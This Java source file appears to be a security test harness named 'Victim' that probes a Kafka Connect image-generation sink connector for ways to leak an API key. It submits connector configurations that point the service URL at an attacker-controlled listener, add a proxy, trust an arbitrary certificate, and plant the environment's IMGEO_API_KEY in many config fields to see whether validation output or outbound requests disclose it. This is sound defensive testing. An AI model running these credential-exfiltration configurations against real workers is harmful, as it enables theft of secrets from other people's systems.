package club.imgeo.attack;

import club.imgeo.kafka.ImgeoSinkConnector;
import java.security.GeneralSecurityException;
import java.security.KeyStore;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import javax.net.ssl.TrustManagerFactory;
import javax.net.ssl.X509TrustManager;
import org.apache.kafka.common.config.ConfigValue;

/** A worker with a key in its environment. It validates and starts one attacker's connector after the other. */
final class Victim {
    private final String bootstrapServers;

    private Victim(String bootstrapServers) {
        this.bootstrapServers = bootstrapServers;
    }

    /** @param arguments the listener's address, host and port of a proxy, and the broker */
    public static void main(String[] arguments) throws GeneralSecurityException {
        String evil = arguments[0];
        String proxy = arguments[1];
        Victim victim = new Victim(arguments[2]);
        victim.run("operator", Map.of());
        victim.run("address", Map.of("imgeo.base.url", evil + "/address"));
        victim.run("prefix", Map.of("imgeo.base.url", evil + "/operator/gateway2"));
        victim.run("host", Map.of("imgeo.base.url", evil));
        String operators = evil + "/operator/gateway";
        victim.run("proxy", Map.of("imgeo.base.url", operators, "camel.component.imgeo.proxy", proxy));
        victim.run("PROXY", Map.of("imgeo.base.url", operators, "camel.component.imgeo.PRO-XY", proxy));
        victim.run("trust", Map.of("imgeo.ssl.truststore.certificates", anyCertificate()));
        String key = System.getenv("IMGEO_API_KEY"); // as a worker resolves ${env:IMGEO_API_KEY}
        victim.run("reference", Map.of("imgeo.api.key", key, "imgeo.base.url", evil + "/reference"));
        victim.run(
                "reference-proxy",
                Map.of("imgeo.api.key", key, "imgeo.base.url", operators, "camel.component.imgeo.proxy", proxy));
        victim.run("operators-reference", Map.of("imgeo.api.key", key, "imgeo.base.url", operators));
        String jaas =
                "org.apache.kafka.common.security.plain.PlainLoginModule required username=\"a\" password=\"KEY\";";
        for (String option : List.of(
                "imgeo.api.key=KEYx",
                "imgeo.api.key=KEY KEY",
                "imgeo.base.url=" + evil + "/KEY",
                "imgeo.base.url=http://KEY.localhost/",
                "imgeo.kafka.bootstrap.servers=KEY.localhost:9092",
                "imgeo.kafka.client.rack=KEY",
                "imgeo.kafka.sasl.jaas.config=" + jaas,
                "imgeo.kafka.no.such.option=KEY",
                "imgeo.ssl.keystore.key=KEY",
                "imgeo.result.topic=KEY",
                "imgeo.error.topic=of-KEY",
                "imgeo.journal.topic=KEY",
                "imgeo.field.prompt=KEY",
                "imgeo.negative.prompt=the text KEY",
                "imgeo.result.converter.schemas.enable=KEY",
                "camel.component.imgeo.proxy=KEY.localhost:1",
                "consumer.override.client.id=KEY",
                "transforms.insert.static.value=KEY",
                "errors.deadletterqueue.topic.name=KEY",
                "topics=prompts,KEY",
                "no.such.prefix=KEY")) {
            String[] parts = option.split("=", 2);
            // with a model that only the server can know, so that validation would ask it
            Map<String, String> config =
                    new HashMap<>(Map.of("imgeo.base.url", evil + "/asked", "imgeo.model", "imgeo/next"));
            config.put("name", "victim-key");
            config.put(parts[0], parts[1].replace("KEY", key));
            victim.run("key-in " + option, config);
        }
        System.exit(0); // whatever a task has left running
    }

    /** Returns one that the JVM trusts, as PEM text. */
    private static String anyCertificate() throws GeneralSecurityException {
        TrustManagerFactory factory = TrustManagerFactory.getInstance(TrustManagerFactory.getDefaultAlgorithm());
        factory.init((KeyStore) null);
        X509TrustManager manager = (X509TrustManager) factory.getTrustManagers()[0];
        byte[] encoded = manager.getAcceptedIssuers()[0].getEncoded();
        return "-----BEGIN CERTIFICATE-----\n" + Base64.getMimeEncoder().encodeToString(encoded)
                + "\n-----END CERTIFICATE-----";
    }

    /** Prints what Connect would answer, which shows a password as it prints it. */
    private void run(String attack, Map<String, String> options) {
        Map<String, String> config = new HashMap<>(Map.of(
                "name",
                "victim-" + attack,
                "connector.class",
                ImgeoSinkConnector.class.getName(),
                "topics",
                "prompts",
                "imgeo.model",
                "black-forest-labs/flux-schnell",
                "imgeo.result.topic",
                "victim-images",
                "imgeo.kafka.bootstrap.servers",
                bootstrapServers));
        config.putAll(options);
        List<ConfigValue> answer = new ImgeoSinkConnector().validate(config).configValues();
        List<String> objections = answer.stream()
                .map(ConfigValue::errorMessages)
                .flatMap(List::stream)
                .toList();
        System.out.println("validation of " + attack + ": " + objections);
        System.out.println("shown for " + attack + ": "
                + answer.stream().map(ConfigValue::value).toList());
        try {
            LoneTask.start(config).close();
            System.out.println("task of " + attack + ": started");
        } catch (RuntimeException e) {
            System.out.println("task of " + attack + ": " + e);
        }
    }
}
